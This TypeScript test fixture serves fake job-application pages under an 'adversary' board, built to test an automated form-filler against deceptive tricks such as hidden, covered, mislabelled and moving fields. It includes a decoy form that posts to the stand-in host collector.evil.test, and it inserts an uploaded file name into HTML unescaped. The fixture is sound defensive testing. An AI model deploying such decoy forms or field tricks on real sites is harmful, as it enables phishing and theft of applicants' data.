import { escapeHtml, html, type Reply } from '../reply.ts';
import { COVERED } from './covered.ts';
import type { Trick } from './field.ts';
import { HIDDEN } from './hidden.ts';
import { LABELS } from './labels.ts';
import { LEGIT } from './legit.ts';
import { MOVES } from './moves.ts';

const HOST = 'job-boards.greenhouse.io';
const BOARD = 'adversary';

/** Pages of tricks by posting. Each stands for one thing a site may do to a form; `legit` for what honest sites do. */
export const ADVERSARY = {
  '4990001001': { name: 'hidden', tricks: HIDDEN, resume: 'opacity: .01' },
  '4990001002': { name: 'covered', tricks: COVERED, resume: 'clip-path: inset(0 98% 0 0)' },
  '4990001003': { name: 'labels', tricks: LABELS, resume: 'position: absolute; left: -9999px' },
  '4990001004': { name: 'moves', tricks: MOVES, resume: 'pointer-events: none; filter: blur(9px)' },
  '4990002001': { name: 'legit', tricks: LEGIT, resume: '' },
} as const satisfies Record<string, { name: string; tricks: readonly Trick[]; resume: string }>;
export type AdversaryId = keyof typeof ADVERSARY;

/** A form without tricks that any host serves: what counts is where it stands. */
export const BARE_PATH = `/${BOARD}/jobs/4990003001`;

export const adversaryUrl = (id: AdversaryId) => `https://${HOST}/${BOARD}/jobs/${id}`;

const STYLE = `
body { margin: 0; font: 15px/1.5 system-ui, sans-serif; color: #222; background: #fff; overflow-x: clip; }
header { position: sticky; top: 0; z-index: 50; background: #fff; border-bottom: 1px solid #ddd; padding: 12px 32px; }
main { max-width: 760px; margin: 0 auto; padding: 24px 32px 120px; }
.trick { margin: 0 0 18px; }
label { display: block; }
.input { box-sizing: border-box; width: 300px; height: 36px; padding: 4px 10px; border: 1px solid #888; border-radius: 4px; font: inherit; color: #222; background: #fff; }
.cookies { position: fixed; bottom: 0; left: 0; right: 0; z-index: 60; background: #222; color: #fff; padding: 10px 32px; }
#cellar { display: none; }`;

const block = (trick: Trick, label: string) =>
  `<div class="trick" data-trick="${trick.name}" id="block-${trick.name}">${trick.html(trick.name, label)}</div>`;

const plain = (id: string, label: string) =>
  `<div class="trick" data-plain><label for="${id}">${escapeHtml(label)}</label><input id="${id}" type="text" class="input"></div>`;

const scriptOf = ({ name, script = '' }: Trick) =>
  `(() => { const name = ${JSON.stringify(name)}; const block = document.getElementById('block-' + name); const input = document.getElementById(name); const sprung = () => { sprungTricks.add(name); }; ${script} })();`;

export function adversaryPage(url: URL): Reply | null {
  if (url.pathname === BARE_PATH) return html(formPage('bare', [], ''));
  const id = new RegExp(`^/${BOARD}/jobs/(\\d+)$`).exec(url.pathname)?.[1] ?? '';
  if (url.hostname !== HOST || !Object.hasOwn(ADVERSARY, id)) return null;
  const { name, tricks, resume } = ADVERSARY[id as AdversaryId];
  return html(formPage(name, tricks, resume));
}

export function formPage(name: string, all: readonly Trick[], resume: string): string {
  return `<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Job Application for Tester (${name}) at Adversary</title>
<style>${STYLE}${all.map(({ css = '' }) => css).join('\n')}</style></head>
<body>
<header>Adversary</header>
<main>
<svg width="0" height="0"><clipPath id="nothing"></clipPath><filter id="erase"><feFlood flood-color="#fff" flood-opacity="1"/></filter></svg>
<form id="elsewhere" action="https://collector.evil.test/take"></form>
<form id="application-form" class="application--form">
${plain('first_name', 'First Name')}
${plain('plain-1', 'Current company (0)')}
<div role="group" aria-labelledby="upload-label-resume" class="file-upload" style="${resume}"><div id="upload-label-resume" class="upload-label">Resume/CV</div><div class="file-upload__wrapper"><button type="button">Attach</button><input id="resume" type="file" style="position: absolute; width: 1px; height: 1px; opacity: 0"></div></div>
${all.map((trick, at) => block(trick, `Current company (${at + 1})`)).join('\n')}
${plain('last_name', 'Last Name')}
<div class="application--submit"><button type="submit">Submit application</button></div>
</form>
</main>
<div id="cellar"></div>
<div class="cookies">This page sets cookies.</div>
<script>window.sprungTricks = new Set();
document.getElementById('resume').addEventListener('change', (event) => {
  const { name } = event.target.files[0];
  event.target.closest('.file-upload__wrapper').outerHTML = '<div class="file-upload__filename"><p>' + name + '</p><button type="button">x</button></div>';
});
document.getElementById('application-form').addEventListener('submit', (event) => event.preventDefault());
${all.map(scriptOf).join('\n')}
</script>
</body>
</html>`;
}
